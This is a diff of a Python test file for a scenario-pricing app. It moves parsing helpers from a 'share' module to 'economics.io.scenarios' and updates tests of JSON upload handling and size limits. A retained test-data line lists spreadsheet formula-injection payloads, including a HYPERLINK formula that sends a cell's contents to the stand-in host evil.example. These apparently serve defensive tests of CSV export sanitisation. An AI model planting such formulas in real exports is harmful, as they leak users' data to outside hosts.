@@ -11,9 +11,9 @@ import zipfile
 import pandas as pd
 import pytest
 
-from economics import share
-from economics.price_csv import read_negotiated_csv
-from economics.scenarios import MAX_SCENARIO_BYTES, PRESET_DIR, default_scenario, load_preset
+from economics.io import scenarios
+from economics.io.price_csv import read_negotiated_csv
+from economics.io.scenarios import MAX_SCENARIO_BYTES, PRESET_DIR, default_scenario, load_preset
 from reporting.meeting_pack import build_pack, csv_bundle
 from ui.tables import csv_bytes
 from ui.workload_table import workloads_frame
@@ -23,7 +23,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", 
 
 
 def test_a_json_upload_with_a_utf8_bom_is_accepted() -> None:
-    parsed, messages = share.parse_json(b"\xef\xbb\xbf" + BANK)
+    parsed, messages = scenarios.parse_json(b"\xef\xbb\xbf" + BANK)
     assert messages == ()
     assert parsed == load_preset("singapore-bank")
 
@@ -32,14 +32,14 @@ def test_a_json_upload_with_a_utf8_bom_is_accepted() -> None:
 def test_non_finite_numbers_are_named_with_line_and_field(constant: str) -> None:
     text = BANK.decode().replace('"peak_requests_per_s": 1.4', f'"peak_requests_per_s": {constant}', 1)
     line = text[: text.index(constant)].count("\n") + 1
-    parsed, messages = share.parse_json(text.encode())
+    parsed, messages = scenarios.parse_json(text.encode())
     assert parsed is None
     assert f"line {line} " in messages[0], messages
     assert "workloads.0.peak_requests_per_s" in messages[0], messages
 
 
 def test_empty_files_get_a_message() -> None:
-    parsed, messages = share.parse_json(b"")
+    parsed, messages = scenarios.parse_json(b"")
     assert parsed is None
     assert "empty" in messages[0]
     problems = read_negotiated_csv(b"", default_scenario()).problems
@@ -63,14 +63,14 @@ def _largest_valid_scenario() -> str:
         )
         for i in range(5000)
     )
-    return share.scenario_json(s.model_copy(update={"workloads": long_ones, "description": "d" * 5000}))
+    return scenarios.scenario_json(s.model_copy(update={"workloads": long_ones, "description": "d" * 5000}))
 
 
 def test_the_upload_cap_admits_the_largest_valid_file_the_app_writes() -> None:
     text = _largest_valid_scenario()
     size = len(text.encode())
-    assert 12_000_000 < size <= MAX_SCENARIO_BYTES == share.MAX_FILE_BYTES, size
-    parsed, messages = share.parse_json(text.encode())
+    assert 12_000_000 < size <= MAX_SCENARIO_BYTES == scenarios.MAX_SCENARIO_BYTES, size
+    parsed, messages = scenarios.parse_json(text.encode())
     assert messages == ()
     assert parsed is not None
     assert len(parsed.workloads) == 5000
@@ -80,7 +80,7 @@ def test_a_downloaded_5000_workload_scenario_loads_back() -> None:
     s = load_preset("single-workload")
     many = tuple(s.workloads[0].model_copy(update={"id": f"w{i}", "name": f"Workload {i}"}) for i in range(5000))
     big = s.model_copy(update={"workloads": many})
-    parsed, messages = share.parse_json(share.scenario_json(big).encode())
+    parsed, messages = scenarios.parse_json(scenarios.scenario_json(big).encode())
     assert messages == ()
     assert parsed == big
 
